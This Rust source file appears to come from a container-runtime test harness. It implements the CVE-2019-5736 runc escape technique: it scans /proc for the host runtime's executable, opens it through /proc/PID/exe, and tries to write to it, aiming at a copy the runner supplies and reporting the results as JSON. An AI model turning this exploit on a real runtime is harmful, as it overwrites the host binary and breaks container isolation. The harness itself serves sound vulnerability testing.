//! Attacks a container process can make on its runtime. Each one tries, and reports what it
//! managed, as JSON; it does no harm itself (nothing is written to what it opens, but for the
//! copy of the runtime the runner asks it to overwrite).

use serde_json::json;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// CVE-2019-5736: until /attack-stop exists (or `seconds` pass), watch /proc for a process whose executable is the host's
/// runtime binary (`dev`:`ino`) and open it through /proc/PID/exe. Once the runtime has exited
/// (no more "text busy"), try to reopen what was opened for writing — the step that overwrote
/// runc — and, with `write` (the runner passes a copy of its runtime), write to it. Reports the
/// pids whose exe could be opened, whether a write-open succeeded and whether a write did.
/// /attack-caught tells the runner that one was opened.
pub fn runtime_exe(dev: u64, ino: u64, seconds: u64, write: bool) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let me = std::process::id().to_string();
    let mut opened: Vec<(String, File)> = Vec::new();
    let try_pid = |pid: String, opened: &mut Vec<(String, File)>| {
        if pid == me || opened.iter().any(|(p, _)| *p == pid) {
            return;
        }
        if let Ok(f) = File::open(format!("/proc/{pid}/exe")) {
            if f.metadata().is_ok_and(|m| m.dev() == dev && m.ino() == ino) {
                opened.push((pid, f));
                let _ = fs::write("/attack-caught", "");
            }
        }
    };
    let mut round = 0u32;
    while Instant::now() < deadline {
        // Mostly the next pids of the namespace, where a new `exec` process appears: a short-lived
        // one is caught as soon as its execve makes it dumpable; now and then every process.
        let last: u32 = fs::read_to_string("/proc/sys/kernel/ns_last_pid")
            .ok()
            .and_then(|s| s.trim().parse().ok())
            .unwrap_or(0);
        for pid in last.saturating_sub(1)..=last + 2 {
            try_pid(pid.to_string(), &mut opened);
        }
        round += 1;
        if !round.is_multiple_of(256) {
            continue;
        }
        if fs::metadata("/attack-stop").is_ok() {
            break;
        }
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid.bytes().all(|b| b.is_ascii_digit()) {
                try_pid(pid, &mut opened);
            }
        }
    }
    let writers: Vec<File> = opened
        .iter()
        .filter_map(|(_, f)| {
            OpenOptions::new()
                .write(true)
                .open(format!("/proc/self/fd/{}", f.as_raw_fd()))
                .ok()
        })
        .collect();
    let writable = !writers.is_empty();
    let written = write
        && writers
            .into_iter()
            .any(|mut w| w.write_all(b"overwritten by the container").is_ok());
    json!({ "opened": opened.iter().map(|(p, _)| p).collect::<Vec<_>>(), "writable": writable, "written": written })
}
